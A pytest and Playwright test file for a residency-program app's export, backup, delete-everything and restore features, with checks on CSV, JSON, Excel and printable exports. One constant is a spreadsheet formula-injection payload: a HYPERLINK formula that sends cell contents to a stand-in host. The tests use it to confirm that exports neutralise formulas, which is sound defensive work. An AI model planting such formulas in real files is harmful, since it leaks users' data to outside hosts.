"""Journeys of what one owns: taken away as files, backed up, deleted, and really there again."""

import csv
import html
import io
import json
from pathlib import Path
from typing import Any

import pytest
from chromium import violations
from kept_examples import keep_portfolio
from openpyxl import load_workbook
from playwright.sync_api import Page, expect
from sites import Served, keep_example

from smartpick.store import Store
from smartpick.workspace import keep_profile, kept, kept_profile
from smartpick.workspace.wishes import set_budget

PHONE = {"viewport": {"width": 360, "height": 740}, "has_touch": True, "is_mobile": True}
NO_SCRIPT = {"java_script_enabled": False}
#: What a spreadsheet would compute if it were let.
FORMULA = '=HYPERLINK("//example.org/"&A1,"x")'


def taken(page: Page, link: str) -> bytes:
    """Follow a link to a file; return what the browser has on its disk."""
    with page.expect_download() as caught:
        page.get_by_role("link", name=link, exact=True).click()
    return Path(caught.value.path()).read_bytes()


def owned(store: Store) -> tuple[Any, Any]:
    """Return the profile and the portfolio that are kept."""
    held = kept_profile(store)
    return (None if held is None else held.data), kept(store).portfolio


def delete_everything(page: Page) -> None:
    """Delete everything, the backups too."""
    page.goto("/data")
    page.get_by_label("To delete all this").fill("delete everything")
    page.get_by_role("button", name="Delete everything").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Everything is deleted")


def put_back(page: Page, file: Path) -> None:
    """Replace everything by what is in a file."""
    page.goto("/data")
    page.get_by_label("Backup or export").set_input_files(file)
    page.get_by_role("button", name="Replace everything").click()


@pytest.mark.parametrize("page", [{}, NO_SCRIPT], ids=["desk", "no script"], indirect=True)
def test_the_list_is_taken_away(page: Page, server: Served, request: pytest.FixtureRequest) -> None:
    """Each file that a link of the list gives holds the programs of the page; no text in it is a formula."""
    store = server.desk.store
    keep_example(store)
    set_budget(store, 132.0)
    held = kept_profile(store)
    assert held is not None
    keep_profile(store, {**held.data, "label": FORMULA}, "Called it like a formula", held.revision)
    page.goto("/list")
    names = page.locator("table.list tbody tr th strong").all_inner_texts()
    rows = list(csv.DictReader(io.StringIO(taken(page, "CSV").decode("utf-8-sig"))))
    assert [row["program"] for row in rows] == names
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "@"))]
    programs = json.loads(taken(page, "JSON"))["programs"]
    assert [one["acgme_id"] for one in programs] == [row["acgme_id"] for row in rows]
    book = load_workbook(io.BytesIO(taken(page, "Excel")))
    assert [row[2] for row in book["List"].iter_rows(min_row=2, values_only=True)] == [
        row["acgme_id"] for row in rows
    ]
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert FORMULA in {cell.value for cell in cells}
    assert not [cell for cell in cells if cell.data_type == "f"]
    whole = taken(page, "Page to print or send").decode()
    assert all(row["program"] in html.unescape(whole) for row in rows)
    assert "no script" in request.node.name or violations(page) == []


@pytest.mark.parametrize("page", [{}, PHONE, NO_SCRIPT], ids=["desk", "phone", "no script"], indirect=True)
def test_backed_up_deleted_and_there_again(
    page: Page, server: Served, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    """A backup that the browser keeps brings profile, portfolio and list back after everything was deleted."""
    keep_portfolio(server.desk.store, "oncology-observership")
    set_budget(server.desk.store, 132.0)
    before = owned(server.desk.store)
    assert all(getattr(before[1], table) for table in ("experiences", "encounters", "approaches", "dates"))
    page.goto("/data")
    page.get_by_role("button", name="Make a backup now").click()
    made = page.get_by_role("status").first
    expect(made).to_contain_text("is made")
    file = tmp_path / made.locator("strong").inner_text()
    file.write_bytes(taken(page, file.name))
    delete_everything(page)
    assert owned(server.desk.store)[0] is None
    page.goto("/")
    expect(page.get_by_role("button", name="Show my first list")).to_be_visible()
    put_back(page, file)
    expect(page.get_by_role("status").first).to_contain_text("Everything is as it was in the file")
    assert owned(server.desk.store) == before
    page.goto("/")
    expect(page.get_by_role("heading", name="Where you stand")).to_be_visible()
    assert "no script" in request.node.name or violations(page) == []


def test_a_sealed_backup_opens_with_its_passphrase_only(page: Page, server: Served, tmp_path: Path) -> None:
    """A wrong passphrase replaces nothing and says so at its field; the right one brings everything back."""
    keep_portfolio(server.desk.store)
    before = owned(server.desk.store)
    page.goto("/data")
    page.get_by_label("Passphrase (may stay empty)").fill("four plain words here")
    page.get_by_label("The same again").fill("four plain words here")
    page.get_by_role("button", name="Make a backup now").click()
    file = tmp_path / page.get_by_role("status").first.locator("strong").inner_text()
    file.write_bytes(taken(page, file.name))
    assert b"district-hospital" not in file.read_bytes()
    delete_everything(page)
    assert violations(page) == []
    page.goto("/data")
    for words in ("other words", "four plain words here"):
        page.get_by_label("Backup or export").set_input_files(file)
        page.get_by_label("Passphrase, if it is sealed").fill(words)
        page.get_by_role("button", name="Replace everything").click()
        if words == "other words":
            expect(page.locator("#to-mend")).to_be_focused()
            assert violations(page) == []
            assert owned(server.desk.store)[0] is None
    expect(page.get_by_role("status").first).to_contain_text("Everything is as it was in the file")
    assert violations(page) == []
    assert owned(server.desk.store) == before


def test_everything_as_json_is_everything(page: Page, server: Served, tmp_path: Path) -> None:
    """The readable export alone is enough to have it all again on another machine."""
    keep_portfolio(server.desk.store, "oncology-observership")
    before = owned(server.desk.store)
    assert before[1].dates
    page.goto("/data")
    file = tmp_path / "everything.json"
    file.write_bytes(taken(page, "Take it all as JSON"))
    server.empty()
    put_back(page, file)
    expect(page.get_by_role("status").first).to_contain_text("Everything is as it was in the file")
    assert owned(server.desk.store) == before
    assert violations(page) == []
